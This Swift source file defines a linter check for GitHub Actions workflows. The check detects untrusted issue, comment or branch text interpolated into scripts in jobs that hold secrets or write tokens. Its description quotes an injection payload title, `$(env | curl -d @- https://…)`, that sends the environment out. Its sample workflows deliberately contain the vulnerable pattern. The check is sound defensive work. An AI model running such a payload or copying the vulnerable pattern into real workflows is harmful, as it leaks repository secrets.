import SourceText
import Workflows

/// A text that a stranger wrote in a script, beside a credential.
enum UntrustedTextInScript {
  static let check = AuditCheck(about, examples: examples) { file in
    file.steps(on: openEvents) { step, index, job, list, workflow, event in
      finding(step, index, job, list, workflow, event, file.isOpenToStrangers)
    }
  }

  /// Those that strangers bring about, and whose runs have secrets.
  private static let openEvents: Set<String> = [
    "discussion", "discussion_comment", "issue_comment", "issues", "pull_request_target", "workflow_run",
  ]

  private static func finding(
    _ step: WorkflowStep, _ index: Int, _ job: WorkflowJob, _ list: StepList, _ workflow: WorkflowFile,
    _ event: String,
    _ isOpen: Bool
  ) -> Finding? {
    guard let script = script(of: step),
      let reference = script.yielded.first(where: { isStrangers($0, event) }),
      workflow.mayRun(job, step: index, in: SupposedRun(.stranger, workflow, on: event))
    else { return nil }
    let secrets = list.givenTexts.storedSecrets.filter { !SecretName.isPlain($0.name) }
    let writes = list.permissions.flatMap { permissions in permissions.written.map { (permissions, $0) } }
    guard !secrets.isEmpty || writes != nil else { return nil }
    let words =
      (secrets.isEmpty ? [] : [SecretWords.list(secrets.map(\.name))])
      + (writes.map { ["a token with write access to \($0.1)"] } ?? [])
    let believed = SupposedRun(.stranger, workflow, on: event, believing: [.bots, .labels])
    let isWatched =
      workflow.isBehindEnvironment(job) || !workflow.mayRun(job, step: index, in: believed)
      || PermissionQuestion.isAsked(of: job, in: workflow, knowing: list.actions)
    let isGrave = !secrets.isEmpty || writes?.0.writesMoreThanRemarks == true
    let places =
      secrets.prefix(3).map { Diagnostic.RelatedPlace(message: "the job has this", range: $0.range) }
      + (writes.map {
        [Diagnostic.RelatedPlace(message: "the permissions that apply here", range: $0.0.range)]
      } ?? [])
    return about.finding(
      "anyone can write the text that `\(reference.dotted)` pastes into this script on `\(event)`, and the job has \(SecretWords.joined(words))",
      about: list.subject(step, reference.dotted), at: script.range(of: reference.offsets),
      severity: isOpen ? (isGrave ? nil : .medium) : .low, confidence: isWatched ? .low : nil,
      help: "pass it to the step with `env: {TEXT: ${{ \(reference.dotted) }}}`, and write `\"$TEXT\"`",
      related: places)
  }

  private static func script(of step: WorkflowStep) -> WorkflowText? {
    if let script = step.script { return script.expressions.isEmpty ? nil : script }
    guard let use = step.action, use.name == "actions/github-script" else { return nil }
    return use.inputs["script"].flatMap { $0.expressions.isEmpty ? nil : $0 }
  }

  /// Whether a stranger writes what a reference stands for, on an event that has it.
  private static func isStrangers(_ reference: ContextReference, _ event: String) -> Bool {
    guard reference.context == "github" else { return false }
    return texts[event]?.contains { reference.dotted == $0 || reference.dotted.hasPrefix($0 + ".") } == true
  }

  private static let pull = [
    "github.event.pull_request.title", "github.event.pull_request.body", "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label", "github.head_ref",
  ]
  private static let issue = ["github.event.issue.title", "github.event.issue.body"]
  private static let discussion = ["github.event.discussion.title", "github.event.discussion.body"]
  private static let comment = ["github.event.comment.body"]
  private static let texts = [
    "discussion": discussion, "discussion_comment": discussion + comment, "issue_comment": issue + comment,
    "issues": issue, "pull_request_target": pull,
    "workflow_run": [
      "github.event.workflow_run.head_branch", "github.event.workflow_run.display_title",
      "github.event.workflow_run.head_commit.message", "github.event.workflow_run.head_commit.author",
    ],
  ]

  private static let about = CheckDescription(
    "untrusted-text-in-script", title: "untrusted text is pasted into a script next to a credential",
    severity: .high,
    confidence: .medium,
    why:
      "Anyone can run commands with the job's secrets and token. The runner pastes the value of `${{ … }}` into the script before a shell reads it. A title such as `$(env | curl -d @- https://…)` then runs as a command.",
    how:
      "Reports a title, body, comment or branch name that is pasted into `run` or into the `script` of `actions/github-script`. The job must have a stored secret, or a token with write access. It checks workflows on `issues`, `issue_comment`, `discussion`, `discussion_comment`, `pull_request_target` and `workflow_run`. On `pull_request`, a fork gets neither. Doesn't report steps that a condition keeps outside contributors from. The confidence is low if only a label, a bot's name, an environment or a permission check does. The severity is medium if the token can write only issues, pull requests, discussions, checks and statuses.",
    fix: "Pass the text to the step with `env`, and use the variable in quotes.",
    falseAlarms: "Something that the file doesn't show checks the text first.",
    sources: [
      "https://docs.github.com/en/actions/concepts/security/script-injections",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
      "https://docs.zizmor.sh/audits/#template-injection",
    ])

  private static let examples = [
    AuditExample(
      "a title next to a secret, and a comment next to a token with write access",
      """
      on: {issues: {types: [opened]}, issue_comment: {types: [created]}}
      permissions: {}
      jobs:
        sort:
          runs-on: ubuntu-latest
          steps:
            - run: ./sort "${{ github.event.issue.title }}"
              env: {SORT_TOKEN: "${{ secrets.SORT_TOKEN }}"}
        answer:
          runs-on: ubuntu-latest
          permissions: {issues: write}
          steps:
            - uses: actions/github-script@v8
              with:
                script: |
                  const text = `${{ github.event.comment.body }}`
                  await answer(text)
      """, finds: [7, 16]),
    AuditExample(
      "in a variable, from the repository's people, or without a credential",
      """
      on: {issues: {types: [opened]}, pull_request_target: null}
      permissions: {}
      jobs:
        sort:
          runs-on: ubuntu-latest
          steps:
            - run: ./sort "$TITLE"
              env:
                TITLE: ${{ github.event.issue.title }}
                SORT_TOKEN: ${{ secrets.SORT_TOKEN }}
        own:
          if: github.event.pull_request.head.repo.full_name == github.repository
          runs-on: ubuntu-latest
          steps:
            - run: ./sort "${{ github.head_ref }}"
              env: {SORT_TOKEN: "${{ secrets.SORT_TOKEN }}"}
        count:
          runs-on: ubuntu-latest
          steps:
            - run: ./count "${{ github.event.issue.title }}"
      """),
  ]
}
